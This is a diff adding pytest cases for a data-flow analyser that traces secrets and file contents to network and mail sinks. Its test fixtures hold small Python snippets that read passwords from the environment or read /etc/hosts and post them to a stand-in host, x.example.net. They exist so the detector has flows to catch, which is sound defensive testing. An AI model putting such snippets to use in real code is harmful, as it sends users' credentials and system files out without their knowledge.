@@ -270,3 +270,47 @@ def test_a_secret_kept_on_the_instance_reaches_another_method() -> None:
     # the folder does not follow attributes, so the host is unknown; the flow is found
     assert {_brief(f) for f in facts.flows} == {("env.read(KEY)", 4, "net.connect(*)", 7, (4,))}
     assert facts.flows[0].steps[0].what == "stored in self.key"
+
+
+def test_a_connection_object_is_not_data() -> None:
+    source = ("import os, smtplib\n"
+              "smtp = smtplib.SMTP_SSL('smtp.example.com', 465)\n"
+              "smtp.login(os.environ['USER'], os.environ['PASSWORD'])\n"
+              "smtp.sendmail('a@example.com', ['b@example.com'], open('notes.txt').read())\n")
+    assert flows(source) == {("fs.read(${WORKSPACE}/notes.txt)", 4, "mail.send(*)", 4, ())}
+
+
+def test_unpacking_keeps_each_value_apart() -> None:
+    source = ("import os, requests\n"
+              "user, password = os.environ['USER'], os.environ['PASSWORD']\n"
+              "requests.post('https://x.example.net', data=user)\n")
+    assert flows(source) == {("env.read(USER)", 2, "net.connect(x.example.net)", 3, (2,))}
+
+
+@pytest.mark.parametrize(("helper", "expected"), [
+    # the helper's result does not depend on the secret: no flow
+    ("def fetch(user, password):\n    return ['a', 'b']\n", set()),
+    # it does: the flow goes through the parameter and the return
+    ("def fetch(user, password):\n    return [user, password]\n",
+     {("env.read(PASSWORD)", 5, "net.connect(x.example.net)", 7, (5, 6, 3, 6))}),
+    # **kwargs are not bound to parameters: the arguments are passed on
+    ("def fetch(user, password, **options):\n    return ['a']\n",
+     {("env.read(PASSWORD)", 5, "net.connect(x.example.net)", 7, (5, 6))}),
+])
+def test_what_a_function_of_the_file_returns(helper: str, expected: set[Flow]) -> None:
+    source = ("import os, requests\n" + helper + "\n"
+              "password = os.environ['PASSWORD']\n"
+              "items = fetch('me', password)\n"
+              "requests.post('https://x.example.net', json=items)\n")
+    assert flows(source) == expected
+
+
+def test_a_loop_variable_holds_the_items_of_what_it_iterates() -> None:
+    source = ("import requests\n"
+              "lines = []\n"
+              "for line in open('/etc/hosts').read().splitlines():\n"
+              "    lines.append(line.strip())\n"
+              "requests.post('https://x.example.net', json=lines)\n")
+    assert flows(source) == {("fs.read(/etc/hosts)", 3, "net.connect(x.example.net)", 5, (3, 4))}
+    assert [s.what for s in extract(source).flows[0].steps] == ["iterated as line",
+                                                                 "stored in lines"]
